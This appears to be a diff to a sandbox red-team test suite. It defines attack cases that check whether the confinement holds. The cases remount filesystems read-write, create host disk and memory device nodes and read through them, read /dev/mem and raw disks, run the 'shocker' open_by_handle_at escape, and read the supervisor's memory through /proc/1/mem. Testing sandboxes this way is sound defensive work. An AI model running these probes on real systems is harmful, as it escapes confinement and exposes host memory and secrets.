@@ -26,7 +26,8 @@ j=0; while [ $j -lt 300 ]; do cat rt-race-$RT_TOKEN$RT_OUTSIDE 2>/dev/null; j=$(
   sb('fs-remount-rw', 'filesystem', 'remount / or /usr read-write', 'mount -o remount,rw / 2>/dev/null && echo "$RT_MARK remount /"; mount -o remount,rw /usr 2>/dev/null && echo "$RT_MARK remount /usr"; true'),
   sb('fs-mount-proc-host', 'filesystem', 'mount a fresh procfs or sysfs, bind / elsewhere', 'mkdir -p /tmp/m; mount -t proc proc /tmp/m 2>/dev/null && echo "$RT_MARK mount proc"; mount --bind / /tmp/m 2>/dev/null && echo "$RT_MARK bind"; mount -t sysfs s /tmp/m 2>/dev/null && echo "$RT_MARK sysfs"; true'),
   sb('fs-unshare-mount', 'filesystem', 'a new user+mount namespace to mount freely (bubblewrap nested namespaces)', 'unshare -Urm sh -c "mount -t tmpfs t /usr && echo $RT_MARK" 2>/dev/null; true'),
-  sb('fs-mknod-disk', 'filesystem', 'create block and char device nodes for the host disk and memory', 'mknod /tmp/sda b 8 0 2>/dev/null && echo "$RT_MARK mknod sda"; mknod /tmp/mem c 1 1 2>/dev/null && echo "$RT_MARK mknod mem"; true'),
+  sb('fs-mknod-disk', 'filesystem', 'create block and char device nodes for the host disk and memory, and read through them', `for n in 'sda b 8 0' 'vda b 253 0' 'mem c 1 1' 'kmsg c 1 11'; do set -- $n
+  mknod /tmp/$1 $2 $3 $4 2>/dev/null && head -c 1 /tmp/$1 >/dev/null 2>&1 && echo "$RT_MARK read through a new $1 node"; done; true`),
   sb('fs-raw-devices', 'filesystem', 'read host disks and memory through device files', 'for d in /dev/sda /dev/vda /dev/xvda /dev/nvme0n1 /dev/mem /dev/kmem /dev/port /dev/kmsg /dev/fuse; do head -c 1 $d >/dev/null 2>&1 && echo "$RT_MARK read $d"; done; true'),
   pyCase('fs-open-by-handle', 'filesystem', 'open_by_handle_at from a guessed handle (the "shocker" Docker escape)', `fh = (ctypes.c_ubyte * 16)(*([8,0,0,0,1,0,0,0] + [2,0,0,0,0,0,0,0]))
 fd = os.open('/workspace', os.O_RDONLY)
@@ -82,5 +83,16 @@ export const SECRETS_CASES: readonly AttackCase[] = [
 if r > 0: esc('keyctl user keyring %d' % r)
 r, e = sc(248, ctypes.c_char_p(b'user'), ctypes.c_char_p(b'rt'), ctypes.c_char_p(b'x'), 1, -2 & 0xffffffff)
 if r > 0: esc('add_key')`),
-  sb('sec-mem-read-supervisor', 'secrets', "read the supervisor's memory (/proc/1/mem, process_vm_readv)", 'head -c 64 /proc/1/mem >/dev/null 2>&1 && echo "$RT_MARK /proc/1/mem"; cat /proc/1/maps >/dev/null 2>&1 && echo "$RT_MARK /proc/1/maps"; true'),
+  pyCase('sec-mem-read-supervisor', 'secrets', "read the supervisor's memory through /proc/1/mem at a mapped address", `try:
+    maps = open('/proc/1/maps').read().split('\\n')
+    print('maps readable (layout only)')
+except OSError as e:
+    maps = []; print('maps', e)
+for line in maps[:8]:
+    if not line: continue
+    start = int(line.split('-')[0], 16)
+    try:
+        f = open('/proc/1/mem', 'rb'); f.seek(start); d = f.read(16)
+        if d: esc('read /proc/1/mem at %x' % start); break
+    except (OSError, ValueError) as e: print('mem', e)`),
 ];
